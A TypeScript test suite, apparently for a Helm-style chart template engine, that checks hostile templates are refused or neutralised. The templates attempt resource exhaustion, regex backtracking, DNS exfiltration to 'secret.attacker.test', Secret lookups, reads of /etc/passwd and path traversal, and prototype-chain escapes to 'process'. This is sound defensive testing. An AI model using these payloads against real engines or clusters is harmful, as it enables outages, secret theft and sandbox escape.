/** Part C: templates that want too much, or what is not theirs. */
import assert from 'node:assert/strict';
import { rendering, template, writeChart } from './charts.ts';
import { type Case, prints, type Row, refused } from './frame.ts';

const OVER =
  /the render needs more than \d+ [\w ]+, the limit for one render|exceed|too (?:deep|large|long|many)|maximum/i;

/** A template text inside `k: …`, which has to run out of its budget. */
function spends(name: string, action: string, more: Partial<Case> = {}): Case {
  return template(name, `k: ${action}\n`, refused(OVER), { unsafe: true, ...more });
}

function nested(open: string, inner: string, close: string, depth: number): string {
  return open.repeat(depth) + inner + close.repeat(depth);
}

const C1: Row = {
  id: 'C1',
  title: 'calls without end, and depth',
  cases: [
    template(
      'include of itself',
      '{{ define "a" }}{{ include "a" . }}{{ end }}k: {{ include "a" . }}\n',
      refused(/nested reference|needs more than/),
    ),
    template(
      'two that include each other',
      '{{ define "a" }}{{ include "b" . }}{{ end }}{{ define "b" }}{{ include "a" . }}{{ end }}k: {{ include "a" . }}\n',
      refused(/nested reference|needs more than/),
    ),
    {
      name: 'tpl of a value that calls tpl on itself',
      make: rendering(() => ({
        'values.yaml': 'v: "{{ tpl .Values.v . }}"\n',
        'templates/a.yaml': 'k: {{ tpl .Values.v . }}\n',
      })),
      expect: refused(/executing "gotpl" at <tpl .*>: the render needs more than/),
    },
    template(
      '1,001 includes in one another',
      `${Array.from({ length: 1002 }, (_, i) => `{{ define "t${i}" }}{{ include "t${i + 1}" . }}{{ end }}`).join('')}{{ define "t1002" }}end{{ end }}k: {{ include "t0" . }}\n`,
      refused(/nested|needs more than/),
    ),
    template('100,000 parentheses', `k: {{ ${nested('(', '1', ')', 100_000)} }}\n`, refused(/depth|nest/), {
      unsafe: true,
    }),
    template('100,000 pipes', `k: {{ 1${' | print'.repeat(100_000)} }}\n`, refused(/depth|nest|needs more/), {
      unsafe: true,
    }),
    template('100,000 ifs', nested('{{ if true }}', 'k: 1', '{{ end }}', 100_000), refused(/depth|nest/), {
      unsafe: true,
    }),
    template(
      'define in define',
      nested('{{ define "a" }}', '', '{{ end }}', 100_000),
      refused(/unexpected|depth|nest/),
      { unsafe: true },
    ),
  ],
};

const C2: Row = {
  id: 'C2',
  title: 'counting, repeating, doubling',
  cases: [
    spends('until 1e9', '{{ len (until 1000000000) }}'),
    spends('untilStep', '{{ len (untilStep 0 1000000000 1) }}'),
    spends('seq', '{{ seq 1000000000 | len }}'),
    spends('repeat 1e9', '{{ "ab" | repeat 1000000000 | len }}'),
    spends('repeat 1e9, not read', '{{ $x := "a" | repeat 1000000000 }}1'),
    spends('range over 1e9', '{{ range 1000000000 }}{{ end }}'),
    spends('lists doubling', `{{ $l := list 1 2 }}{{ range until 40 }}{{ $l = concat $l $l }}{{ end }}{{ len $l }}`),
    spends('texts doubling', `{{ $t := "ab" }}{{ range until 40 }}{{ $t = print $t $t }}{{ end }}{{ len $t }}`),
    spends(
      'texts doubling by printf',
      `{{ $t := "ab" }}{{ range until 40 }}{{ $t = printf "%s%s" $t $t }}{{ end }}{{ len $t }}`,
    ),
    spends(
      'dictionaries in dictionaries',
      `{{ $d := dict }}{{ range $i := until 60 }}{{ $d = dict "a" $d "b" $d }}{{ end }}{{ toYaml $d }}`,
    ),
    spends('loops in loops', '{{ range until 10000 }}{{ range until 10000 }}{{ end }}{{ end }}'),
  ],
};

const C3: Row = {
  id: 'C3',
  title: 'wide verbs and long lines',
  cases: [
    template('%1000000000d', 'k: {{ printf "%1000000000d" 1 | quote }}\n', prints(/%!\(BADWIDTH\)|%!\(NOVERB\)/)),
    template('%*d of 1e9', 'k: {{ printf "%*d" 1000000000 1 | quote }}\n', prints(/BADWIDTH/)),
    template('%.999999999f', 'k: {{ printf "%.999999999f" 1.0 | quote }}\n', prints(/NOVERB/)),
    template('%1000000d', 'k: {{ printf "%1000000d" 1 | len }}\n', prints(/k: 1000000\n/)),
    spends('%1000000d, 1,000 times', '{{ range until 1000 }}{{ printf "%1000000d" 1 }}{{ end }}'),
    spends('indent 1e9', '{{ "a" | indent 1000000000 }}'),
    spends('nindent 1e9', '{{ "a" | nindent 1000000000 }}'),
    spends('indent of a million lines', '{{ "a\\n" | repeat 1000000 | indent 1000 }}'),
    template('wrap 1 of 1 MB', 'k: {{ "a b " | repeat 250000 | wrap 1 | len }}\n', prints(/k: \d+/)),
    template('nospace of 10 MB', 'k: {{ "a b " | repeat 2500000 | nospace | len }}\n', prints(/k: 5000000\n/)),
    template('abbrev of 10 MB', 'k: {{ "a b " | repeat 2500000 | abbrev 10 }}\n', prints(/k: a b a b\.\.\./)),
    template('b64enc thirty times', `k: {{ "a" | repeat 100 ${'| b64enc '.repeat(30)}| len }}\n`, prints(/k: \d+/)),
    spends('b64enc a hundred times', `{{ "a" | repeat 100 ${'| b64enc '.repeat(100)}| len }}`),
  ],
};

const LONG_A = '{{ $s := print ("a" | repeat 10000) "!" }}';

const C4: Row = {
  id: 'C4',
  title: 'regular expressions',
  cases: [
    ...['(a+)+$', '(a|a)*b', '(a|aa)+$', '.*.*.*=', '(.*)(.*)(.*)(.*)(.*)x', '((a{1,30}){1,30})$'].map((pattern) =>
      template(
        `match ${pattern} of 10 KB`,
        `${LONG_A}k: {{ regexMatch ${JSON.stringify(pattern)} $s }}\n`,
        prints(/k: (?:true|false)\n/),
      ),
    ),
    template('find (a+)+$', `${LONG_A}k: {{ regexFind "(a+)+$" $s | len }}\n`, prints(/k: 0\n/)),
    template('replace (a+)+', `${LONG_A}k: {{ regexReplaceAll "(a+)+" $s "b" }}\n`, prints(/k: b!\n/)),
    template('split (a|b)*', `${LONG_A}k: {{ regexSplit "(a|b)*" $s -1 | len }}\n`, prints(/k: \d+\n/)),
    template(
      'a back-reference',
      'k: {{ mustRegexMatch "(a)\\\\1" "aa" }}\n',
      refused(/invalid escape sequence: `\\1`/),
    ),
    template(
      'a look-ahead',
      'k: {{ mustRegexMatch "(?=x)" "aa" }}\n',
      refused(/invalid or unsupported Perl syntax: `\(\?=`/),
    ),
    template('x{1001}', 'k: {{ mustRegexMatch "x{1001}" "aa" }}\n', refused(/invalid repeat count: `\{1001\}`/)),
    template(
      'repeats of repeats',
      'k: {{ mustRegexMatch "((x{100}){100}){100}" "aa" }}\n',
      refused(/invalid repeat count|expression too large/),
    ),
    template('invalid UTF-8', 'k: {{ regexMatch "(a+)+$" ("gP8=" | b64dec) }}\n', prints(/k: false\n/)),
    spends(
      'a thousand searches of 1 MB',
      '{{ $s := "a" | repeat 1000000 }}{{ range until 100000 }}{{ if regexMatch "(a|b)*c" $s }}1{{ end }}{{ end }}',
      { seconds: 12 },
    ),
  ],
};

const C5: Row = {
  id: 'C5',
  title: 'keys and passwords without end',
  cases: [
    // A hundred keys and more are made until the budget is spent.
    ...[
      'genCA "a" 365',
      'genSelfSignedCert "a" nil nil 365',
      'genPrivateKey "rsa"',
      'bcrypt "a"',
      'htpasswd "a" "b"',
    ].map((call) =>
      spends(`1,000 times ${call}`, `{{ range until 1000 }}{{ $x := ${call} }}{{ end }}`, { seconds: 60, once: true }),
    ),
    spends(
      '1,000 times derivePassword',
      '{{ range until 1000 }}{{ $x := derivePassword 1 "long" "a" "b" "c" }}{{ end }}',
      { seconds: 60, once: true },
    ),
    template(
      'a certificate for a million days',
      'k: {{ (genCA "a" 1000000).Cert | len }}\n',
      ({ exit, stdout, stderr }) => assert.match(exit === 0 ? stdout : stderr, /k: \d+|^Error: \S/m),
    ),
  ],
};

const C6: Row = {
  id: 'C6',
  title: 'names asked of a server of names',
  cases: [
    template('getHostByName', 'k: {{ getHostByName "secret.attacker.test" | quote }}\n', prints(/k: ""\n/)),
    {
      name: 'getHostByName in lint',
      make: ({ root }) => {
        writeChart(root, { 'templates/a.yaml': 'k: {{ getHostByName "secret.attacker.test" | quote }}\n' });
        return { args: ['lint', 'c'] };
      },
      expect: prints(/1 chart\(s\) linted, 0 chart\(s\) failed/),
    },
  ],
};

const LOOKUP = 'k: {{ lookup "v1" "Secret" "kube-system" "" | toJson | quote }}\n';
/** A cluster that nobody may ask. */
const KUBECONFIG = `apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "http://127.0.0.1:9"}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
users: [{name: u, user: {token: canary}}]
`;

function looking(name: string, args: readonly string[]): Case {
  return {
    name: `lookup in ${name}`,
    make: ({ root }) => {
      writeChart(root, { 'templates/a.yaml': LOOKUP, kubeconfig: KUBECONFIG });
      return { args, env: { KUBECONFIG: `${root}/c/kubeconfig` } };
    },
    expect: prints(args[0] === 'lint' ? /0 chart\(s\) failed/ : /k: "\{\}"\n/),
  };
}

const C7: Row = {
  id: 'C7',
  title: 'lookup without a cluster asked for',
  cases: [
    looking('template', ['template', 'r', 'c']),
    looking('lint', ['lint', 'c']),
    looking('install --dry-run=client', ['install', 'r', 'c', '--dry-run=client']),
    looking('template --dry-run=client', ['template', 'r', 'c', '--dry-run=client']),
  ],
};

const C8: Row = {
  id: 'C8',
  title: 'the environment, and files outside the chart',
  cases: [
    template('env', 'k: {{ env "CANARY" }}\n', refused(/function "env" not defined/)),
    template('expandenv', 'k: {{ expandenv "$CANARY" }}\n', refused(/function "expandenv" not defined/)),
    ...[
      '/etc/passwd',
      '../../etc/passwd',
      '../outside/secret.txt',
      '..\\\\outside\\\\secret.txt',
      'templates/../../outside/secret.txt',
    ].map((path) => template(`Files.Get ${path}`, `k: {{ .Files.Get "${path}" | quote }}\n`, prints(/k: ""\n/))),
    template(
      'Files.Glob outside',
      'k: {{ len (.Files.Glob "../**") }}{{ len (.Files.Glob "/**") }}\n',
      prints(/k: 00\n/),
    ),
    template(
      'include of what another release has',
      'k: {{ include "other.name" . }}\n',
      refused(/no template "other.name"/),
    ),
  ],
};

const REACHES = [
  '.Values.constructor',
  '.Values.__proto__',
  '.Values.a.toString',
  'index .Values "__proto__"',
  'index .Values "constructor"',
  '.Values.a.constructor.constructor',
  '.Release.constructor',
  '.Release.__proto__',
  '.Chart.constructor',
  '.Files.constructor',
  '.Capabilities.constructor',
  '.Template.__proto__',
  'get .Values "__proto__"',
  'dig "constructor" "name" "none" .Values',
  'pluck "__proto__" .Values | first',
  '(dict).constructor',
  '(list).length',
  '("text").length',
  '.Values.then',
];
/** Names that only the engine's own world has. */
const WORLD = /native code|\[object|function |prototype|process\b|globalThis|Symbol\(/;

const C9: Row = {
  id: 'C9',
  title: "the engine's own objects",
  cases: [
    ...REACHES.map(
      (path): Case => ({
        name: path,
        make: rendering(() => ({
          'values.yaml': 'a: {b: 1}\n',
          'templates/a.yaml': `k: {{ ${path} | toJson | quote }}\n`,
        })),
        expect: ({ stdout, stderr }) => {
          assert.doesNotMatch(stdout, WORLD);
          assert.doesNotMatch(stderr.replace(/function "[^"]*"/g, ''), WORLD);
        },
      }),
    ),
    template('call of a value', 'k: {{ call .Values.x }}\n', refused(/call/)),
    template(
      'the way to Function',
      'k: {{ call (.Release.constructor.constructor "return process") }}\n',
      refused(/constructor/),
    ),
  ],
};

const C10: Row = {
  id: 'C10',
  title: 'much output',
  cases: [
    spends('600 MB', '{{ range until 600000 }}{{ "a" | repeat 1000 }}{{ end }}'),
    template('100,000 documents', '{{ range until 100000 }}---\nkind: A\n{{ end }}', prints(/kind: A/), {
      // Each is a document with a head of its own, 4 MB of output.
      seconds: 4,
    }),
    template(
      '100,000 definitions',
      `${Array.from({ length: 100_000 }, (_, i) => `{{define "d${i}"}}{{end}}`).join('')}k: 1\n`,
      prints(/k: 1/),
      { seconds: 4 },
    ),
    template('a line of 10 MB', 'k: {{ "a" | repeat 10000000 }}\n', prints(/k: a{1000}/)),
  ],
};

const C11: Row = {
  id: 'C11',
  title: 'errors that are too long, or dressed up',
  cases: [
    {
      name: 'fail with 10 MB',
      make: rendering(() => ({ 'templates/a.yaml': '{{ fail ("x" | repeat 10000000) }}' })),
      expect: ({ exit, stderr }) => {
        assert.equal(exit, 1);
        assert.match(stderr, /xxxx/);
      },
    },
    template('required with control characters', '{{ required "\\u001b[31mred\\u0007" .Values.none }}', refused(/red/)),
    template('the marks of Helm', '{{ fail "HELM_ERR_START inner HELM_ERR_END" }}', refused(/inner/)),
  ],
};

export const templateRows: readonly Row[] = [C1, C2, C3, C4, C5, C6, C7, C8, C9, C10, C11];
